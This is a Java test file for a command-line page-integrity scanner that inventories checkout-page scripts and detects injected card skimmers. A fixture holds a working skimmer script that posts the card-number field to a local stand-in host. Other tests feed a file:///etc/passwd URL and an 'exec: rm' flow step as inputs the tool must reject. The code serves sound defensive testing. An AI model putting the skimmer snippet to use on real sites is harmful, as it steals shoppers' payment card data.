package dev.mimamori.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpServer;
import dev.mimamori.storefront.Chromium;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class PageCommandTest {
  static final String CHECKOUT =
      """
      <!doctype html><html><head><script>var shop = 1;</script>%s</head><body>
      <form action="/pay" method="post"><input name="card_number" autocomplete="cc-number"></form>
      </body></html>
      """;

  @TempDir Path dir;
  HttpServer shop;
  HttpServer skimmer;
  final Map<String, String> pages = new ConcurrentHashMap<>();

  @BeforeEach
  void serve() throws Exception {
    shop = server("127.0.0.1");
    skimmer = server("127.0.0.2");
    pages.put(
        "/skim.js",
        "document.addEventListener('change', () => fetch('"
            + origin(skimmer)
            + "/c', {method: 'POST', mode: 'no-cors', body: document.querySelector('input').value}), true);");
  }

  @AfterEach
  void stop() {
    shop.stop(0);
    skimmer.stop(0);
  }

  HttpServer server(String address) throws Exception {
    HttpServer s = HttpServer.create(new InetSocketAddress(address, 0), 0);
    s.createContext(
        "/",
        ex -> {
          ex.getRequestBody().readAllBytes();
          String page = pages.getOrDefault(ex.getRequestURI().getPath(), "");
          byte[] body = page.getBytes(StandardCharsets.UTF_8);
          ex.getResponseHeaders()
              .add("Content-Type", page.startsWith("<") ? "text/html" : "text/javascript");
          ex.sendResponseHeaders(200, body.length);
          ex.getResponseBody().write(body);
          ex.close();
        });
    s.start();
    return s;
  }

  static String origin(HttpServer s) {
    return "http://"
        + s.getAddress().getAddress().getHostAddress()
        + ":"
        + s.getAddress().getPort();
  }

  @Test
  void checkWithoutBaselineIsAUsageError() {
    MainTest.Result r = MainTest.run("page", "check", "http://127.0.0.1:9/");

    assertThat(r.code()).isEqualTo(ExitCodes.USAGE);
  }

  @Test
  void inventoryOfANonHttpUrlIsAUsageError() {
    MainTest.Result r = MainTest.run("page", "inventory", "file:///etc/passwd");

    assertThat(r.code()).isEqualTo(ExitCodes.USAGE);
  }

  @Test
  void inventoryJsonListsTheInlineScriptWithItsHash() throws Exception {
    assumeTrue(Chromium.available(), "needs /usr/bin/chromium and /usr/bin/chromedriver");
    pages.put("/checkout", CHECKOUT.formatted(""));

    MainTest.Result r =
        MainTest.run("page", "inventory", "--json", "--wait", "300", origin(shop) + "/checkout");

    JsonNode script = new ObjectMapper().readTree(r.out()).path("scripts").get(0);
    assertThat(script.path("inline").asBoolean() + " " + script.path("hash").asText())
        .isEqualTo(
            "true "
                + java.util.HexFormat.of()
                    .formatHex(
                        java.security.MessageDigest.getInstance("SHA-256")
                            .digest("var shop = 1;".getBytes(StandardCharsets.UTF_8))));
  }

  @Test
  void checkOfASkimmedPageAgainstItsCleanBaselineExitsOneNamingTheSkimmerHost() throws Exception {
    assumeTrue(Chromium.available(), "needs /usr/bin/chromium and /usr/bin/chromedriver");
    pages.put("/checkout", CHECKOUT.formatted(""));
    Path baseline = dir.resolve("baseline.json");
    String url = origin(shop) + "/checkout";
    Files.writeString(
        baseline, MainTest.run("page", "inventory", "--json", "--wait", "300", url).out());
    pages.put(
        "/checkout",
        CHECKOUT.formatted("<script src=\"" + origin(skimmer) + "/skim.js\"></script>"));

    MainTest.Result r =
        MainTest.run("page", "check", "--wait", "1000", "--baseline", baseline.toString(), url);

    assertThat(r.code() + " " + r.out().lines().findFirst().orElse(""))
        .startsWith("1 critical")
        .contains("127.0.0.2");
  }

  @Test
  void flowWithAnUnknownStepIsAUsageErrorNamingTheStep() throws Exception {
    Path flow = dir.resolve("flow.yml");
    Files.writeString(flow, "steps:\n  - open: /\n  - exec: rm\n");

    MainTest.Result r =
        MainTest.run("page", "inventory", "--flow", flow.toString(), "http://127.0.0.1:9/");

    assertThat(r.code() + " " + r.err()).startsWith("2 ").contains("flow step 2: unknown step");
  }

  @Test
  void checkWithAMalformedHostPolicyIsAUsageError() throws Exception {
    Path baseline = dir.resolve("b.json");
    Files.writeString(
        baseline,
        "{\"url\":\"x\",\"host\":\"x\",\"scripts\":[],\"requests\":[],\"after_input\":[]}");
    Path config = dir.resolve("site.yml");
    Files.writeString(config, "payment_hosts: pay.example\n");

    MainTest.Result r =
        MainTest.run(
            "page",
            "check",
            "--baseline",
            baseline.toString(),
            "--config",
            config.toString(),
            "http://127.0.0.1:9/");

    assertThat(r.code() + " " + r.err()).startsWith("2 ").contains("payment_hosts must be a list");
  }

  @Test
  void cspFromASavedInventoryPrintsAReportOnlyHeaderWithTheReportUri() throws Exception {
    Path inv = dir.resolve("inv.json");
    Files.writeString(
        inv,
        """
        {"url":"https://shop.example.jp/shopping","final_url":"https://shop.example.jp/shopping",
         "host":"shop.example.jp","after_input":[],"iframes":[],"forms":[],
         "scripts":[{"src":"https://cdn.example.jp/a.js","hash":"","inline":false,"host":"cdn.example.jp"}],
         "requests":[]}
        """);

    MainTest.Result r =
        MainTest.run(
            "page",
            "csp",
            "--from",
            inv.toString(),
            "--report-uri",
            "https://soc.example/csp/t1",
            "x");

    assertThat(r.out())
        .startsWith(
            "Content-Security-Policy-Report-Only: default-src 'self'; script-src 'self'"
                + " https://cdn.example.jp;")
        .contains("report-uri https://soc.example/csp/t1");
  }

  @Test
  void checkWithTheSkimmerHostAsPaymentHostInTheConfigReportsNoCardLeak() throws Exception {
    assumeTrue(Chromium.available(), "needs /usr/bin/chromium and /usr/bin/chromedriver");
    pages.put("/checkout", CHECKOUT.formatted(""));
    Path baseline = dir.resolve("baseline.json");
    String url = origin(shop) + "/checkout";
    Files.writeString(
        baseline, MainTest.run("page", "inventory", "--json", "--wait", "300", url).out());
    pages.put(
        "/checkout",
        CHECKOUT.formatted("<script src=\"" + origin(skimmer) + "/skim.js\"></script>"));
    Path config = dir.resolve("site.yml");
    Files.writeString(config, "payment_hosts: [127.0.0.2]\n");

    MainTest.Result r =
        MainTest.run(
            "page",
            "check",
            "--json",
            "--wait",
            "1000",
            "--baseline",
            baseline.toString(),
            "--config",
            config.toString(),
            url);

    assertThat(r.out()).contains("new_script").doesNotContain("sensitive_data_sent");
  }
}
